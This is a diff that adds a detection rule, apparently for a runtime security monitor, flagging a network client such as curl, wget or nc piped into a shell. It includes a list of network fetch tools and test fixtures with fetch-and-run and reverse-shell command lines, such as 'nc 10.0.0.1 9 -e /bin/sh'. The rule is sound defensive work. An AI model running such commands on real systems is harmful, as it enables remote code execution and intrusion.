@@ -280,3 +280,65 @@ rule {
       expect = false },
   },
 }
+
+-- Network clients whose output can be a program.
+local FETCHERS = tapio.set { "curl", "wget", "nc", "ncat", "netcat", "nc.traditional",
+                             "nc.openbsd", "socat", "telnet", "aria2c", "tftp", "ftp",
+                             "lwp-download", "fetch" }
+
+local function fetcher(e, name)
+  return FETCHERS[name] ~= nil or (name == "openssl" and contains(e.cmdline, "s_client"))
+end
+
+rule {
+  name = "network_tool_piped_to_shell",
+  desc = "A network client (curl, wget, nc, socat, openssl s_client, telnet) and a shell or "
+      .. "interpreter reading its program from its input ran side by side, started by one "
+      .. "parent: `curl ... | sh`, `nc host port | bash`, whatever the command line looks like",
+  events = { "process.fork", "process.exec", "process.exit" },
+  severity = "error",
+  importance = 0.9,
+  tags = { "mitre:T1059.004", "mitre:T1105", "mitre:T1071" },
+  -- parent -> the pid of its running network client / program reader
+  state = { src = tapio.map { ttl = "10m" }, run = tapio.map { ttl = "10m" },
+            ended = tapio.map { ttl = "10m" }, member = tapio.map { ttl = "10m" },
+            born = tapio.map { ttl = "30s" } },
+  when = function(e, s) return pipeline_pair(e, s, fetcher) end,
+  output = "${filename} (${argv}) started beside a network client's pipe by ${parent.comm} "
+        .. "(pid ${ppid}, exe ${parent.exe}); pid ${pid}, uid ${uid}, container "
+        .. "${container.id}, pod ${k8s.namespace}/${k8s.pod}",
+  tests = {
+    { events = { { type = "process.exec", pid = 101, comm = "curl", ppid = 70,
+                   filename = "/usr/bin/curl",
+                   argv = { "curl", "-s", "http://x/i.sh" } },
+                 { type = "process.exec", pid = 102, comm = "sh", ppid = 70, filename = "/bin/sh",
+                   argv = { "sh" } } }, expect = 2 },
+    { events = { { type = "process.exec", pid = 103, comm = "bash", ppid = 70,
+                   filename = "/bin/bash",
+                   argv = { "bash" } },
+                 { type = "process.exec", pid = 104, comm = "nc", ppid = 70, filename = "/bin/nc",
+                   argv = { "nc", "10.0.0.1", "4444" } } }, expect = 2 },
+    { events = { { type = "process.exec", pid = 105, comm = "curl", ppid = 70,
+                   filename = "/usr/bin/curl",
+                   argv = { "curl", "-o", "x", "http://x/x" } },
+                 { type = "process.exec", pid = 106, comm = "sh", ppid = 70, filename = "/bin/sh",
+                   argv = { "sh", "install.sh" } } }, expect = false },
+    { events = { { type = "process.exec", pid = 107, comm = "curl", ppid = 70,
+                   filename = "/usr/bin/curl",
+                   argv = { "curl", "http://x/i.sh" } },
+                 { type = "process.exec", pid = 108, comm = "sh", ppid = 71, filename = "/bin/sh",
+                   argv = { "sh" } } }, expect = false },
+    -- nc -e: the client became the shell, no pipe (network_tool_executes_shell)
+    { events = { { type = "process.exec", comm = "nc", pid = 71, ppid = 70,
+                   filename = "/bin/nc.traditional",
+                   argv = { "nc", "10.0.0.1", "9", "-e", "/bin/sh" } },
+                 { type = "process.exec", comm = "sh", pid = 71, ppid = 70, filename = "/bin/sh",
+                   argv = { "/bin/sh" } } }, expect = false },
+    -- the client was gone before the shell started: not a pipe
+    { events = { { type = "process.exec", comm = "nc", pid = 71, ppid = 70,
+                   filename = "/bin/nc", argv = { "nc", "-z", "10.0.0.1", "22" } },
+                 { type = "process.exit", comm = "nc", pid = 71, ppid = 70 },
+                 { type = "process.exec", comm = "python3", pid = 72, ppid = 70,
+                   filename = "/usr/bin/python3", argv = { "python3", "-" } } }, expect = false },
+  },
+}
